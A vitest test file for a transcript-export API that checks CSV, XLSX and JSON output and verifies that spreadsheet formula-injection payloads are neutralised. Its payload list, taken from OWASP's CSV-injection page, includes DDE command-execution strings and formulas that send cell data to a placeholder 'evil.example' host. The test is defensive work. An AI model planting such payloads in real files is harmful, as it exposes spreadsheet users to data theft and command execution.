import { SELF } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { env } from "cloudflare:workers";
import { allMatching } from "../src/conversation/search";
import { openDb } from "../src/db/client";
import { exportResponse, TABLE_COLUMNS } from "../src/privacy/export";
import { BASE, login, seedAccount } from "./helpers";
import { seedTranscript } from "./helpers/transcripts";

/** Payloads that a spreadsheet would run as formulas or DDE, from OWASP's CSV-injection page and others. */
const INJECTION_CORPUS = [
  "=1+1",
  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\0=1+1",
  "=cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
];

async function exportAs(cookie: string, body: unknown): Promise<Response> {
  return SELF.fetch(`${BASE}/api/v1/conversations/export`, {
    method: "POST",
    headers: { "Content-Type": "application/json", Origin: BASE, Cookie: cookie },
    body: JSON.stringify(body),
  });
}

/** The CSV's text after checking it starts with the UTF-8 byte-order mark (Excel needs it). */
async function csvText(res: Response): Promise<string> {
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return new TextDecoder().decode(bytes.slice(3));
}

/** RFC 4180 parser for the checks (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(field), (field = "");
    else if (ch === "\r" && text[i + 1] === "\n") row.push(field), rows.push(row), (row = []), (field = ""), i++;
    else field += ch;
  }
  return rows;
}

describe("POST /api/v1/conversations/export", () => {
  it("exports one chat as RFC 4180 CSV in UTF-8 with every message", async () => {
    const account = await seedAccount();
    const id = await seedTranscript(account, { name: "Zoë \"Z\" Müller", email: "zoe@example.org", bodies: ["Grüße, line one\nline two", "Answer, with \"quotes\""] });
    const res = await exportAs(await login(account.adminEmail), { format: "csv", conversationIds: [id] });
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("Content-Disposition")).toMatch(/attachment; filename="confide-transcripts-\d{4}-\d{2}-\d{2}\.csv"/);
    const rows = parseCsv(await csvText(res));
    expect(rows[0]).toEqual([...TABLE_COLUMNS]);
    expect(rows).toHaveLength(3);
    const body = TABLE_COLUMNS.indexOf("body");
    expect(rows.slice(1).map((r) => r[body])).toEqual(["Grüße, line one\nline two", "Answer, with \"quotes\""]);
    expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_name")]).toBe("Zoë \"Z\" Müller");
    expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_email")]).toBe("zoe@example.org");
  });

  it("exports one chat as a workbook that a spreadsheet library opens", async () => {
    const account = await seedAccount();
    const id = await seedTranscript(account, { name: "Vera", bodies: ["a < b & c > d", "ok"] });
    const res = await exportAs(await login(account.adminEmail), { format: "xlsx", conversationIds: [id] });
    expect(res.headers.get("Content-Type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const workbook = XLSX.read(new Uint8Array(await res.arrayBuffer()), { type: "array" });
    expect(workbook.SheetNames).toEqual(["Transcripts"]);
    const rows = XLSX.utils.sheet_to_json<string[]>(workbook.Sheets.Transcripts!, { header: 1, raw: false });
    expect(rows[0]).toEqual([...TABLE_COLUMNS]);
    expect(rows.slice(1).map((r) => r[TABLE_COLUMNS.indexOf("body")])).toEqual(["a < b & c > d", "ok"]);
  });

  it("exports one chat as JSON for portability", async () => {
    const account = await seedAccount();
    const id = await seedTranscript(account, { name: "Vera", email: "vera@example.org", bodies: ["one", "two", "three"] });
    const res = await exportAs(await login(account.adminEmail), { format: "json", conversationIds: [id] });
    const data = (await res.json()) as { format: string; conversations: { id: string; visitorEmail: string; messages: { seq: number; body: string }[] }[] };
    expect(data.format).toBe("confide-transcripts");
    expect(data.conversations).toHaveLength(1);
    expect(data.conversations[0]).toMatchObject({ id, visitorEmail: "vera@example.org" });
    expect(data.conversations[0]!.messages.map((m) => [m.seq, m.body])).toEqual([[1, "one"], [2, "two"], [3, "three"]]);
  });

  it("exports 1,000 chats in each format, everything a filter matches", async () => {
    const account = await seedAccount();
    const ids = new Set<string>();
    for (let batch = 0; batch < 20; batch++) {
      const created = await Promise.all(Array.from({ length: 50 }, (_, i) => seedTranscript(account, { name: `Visitor ${batch * 50 + i}`, bodies: [`question ${batch * 50 + i}`, "answer"] })));
      for (const id of created) ids.add(id);
    }
    const cookie = await login(account.adminEmail);
    const csvRows = parseCsv(await csvText(await exportAs(cookie, { format: "csv", filter: {} })));
    const conversationColumn = TABLE_COLUMNS.indexOf("conversation_id");
    expect(csvRows[0]).toEqual([...TABLE_COLUMNS]);
    expect(csvRows).toHaveLength(1 + 2_000);
    expect(new Set(csvRows.slice(1).map((r) => r[conversationColumn]))).toEqual(ids);

    const json = (await (await exportAs(cookie, { format: "json", filter: {} })).json()) as { conversations: { id: string; messages: unknown[] }[] };
    expect(new Set(json.conversations.map((c) => c.id))).toEqual(ids);
    expect(json.conversations.every((c) => c.messages.length === 2)).toBe(true);

    const workbook = XLSX.read(new Uint8Array(await (await exportAs(cookie, { format: "xlsx", filter: {} })).arrayBuffer()), { type: "array" });
    const sheet = XLSX.utils.sheet_to_json<string[]>(workbook.Sheets.Transcripts!, { header: 1, raw: false });
    expect(sheet).toHaveLength(1 + 2_000);
    expect(new Set(sheet.slice(1).map((r) => r[conversationColumn]))).toEqual(ids);

    // Within a Worker invocation's query budget: a few batched queries per page of 50, not per chat.
    let queries = 0;
    const counted = new Proxy(env.DB, {
      get(target, name, receiver) {
        if (name === "prepare") return (sql: string) => (queries++, target.prepare(sql));
        const value = Reflect.get(target, name, receiver);
        return typeof value === "function" ? value.bind(target) : value;
      },
    });
    const db = openDb(counted);
    const args = { accountId: account.accountId, departmentIds: null, criteria: {} };
    const res = await exportResponse(env, db, account.accountId, allMatching(db, args), "csv", "test", Date.now());
    expect(parseCsv(await csvText(res))).toHaveLength(1 + 2_000);
    expect(queries).toBeLessThan(120);
  }, 120_000);

  it("neutralises formula-injection payloads in CSV and XLSX", async () => {
    const account = await seedAccount();
    const id = await seedTranscript(account, { name: "=HYPERLINK(\"http://evil.example\")", bodies: INJECTION_CORPUS });
    const cookie = await login(account.adminEmail);
    const body = TABLE_COLUMNS.indexOf("body");

    const csvRows = parseCsv(await csvText(await exportAs(cookie, { format: "csv", conversationIds: [id] }))).slice(1);
    const workbook = XLSX.read(new Uint8Array(await (await exportAs(cookie, { format: "xlsx", conversationIds: [id] })).arrayBuffer()), { type: "array", cellFormula: true });
    const sheet = workbook.Sheets.Transcripts!;
    const xlsxRows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true }).slice(1);
    for (const [rows, label] of [[csvRows, "csv"], [xlsxRows, "xlsx"]] as const) {
      expect(rows, label).toHaveLength(INJECTION_CORPUS.length);
      rows.forEach((row, i) => {
        const payload = INJECTION_CORPUS[i]!;
        // Inert: starts with an apostrophe, and the rest is the payload as text.
        expect(row[body], `${label}: ${JSON.stringify(payload)}`).toMatch(/^'/);
        expect(String(row[body]).slice(1).replace(/\uFFFD/g, "\0")).toBe(payload);
        expect(row[TABLE_COLUMNS.indexOf("visitor_name")]).toMatch(/^'=/);
      });
    }
    // No cell of the workbook is a formula.
    expect(Object.values(sheet).some((cell) => typeof cell === "object" && cell !== null && "f" in cell)).toBe(false);
  });

  it("rejects an unknown format, a missing or double selection and a bad date with 400", async () => {
    const account = await seedAccount();
    const cookie = await login(account.adminEmail);
    for (const body of [{ format: "pdf", filter: {} }, { format: "csv" }, { format: "csv", filter: {}, conversationIds: ["a".repeat(64)] }, { format: "csv", filter: { from: "yesterday" } }]) {
      const res = await exportAs(cookie, body);
      expect(res.status, JSON.stringify(body)).toBe(400);
    }
  });
});
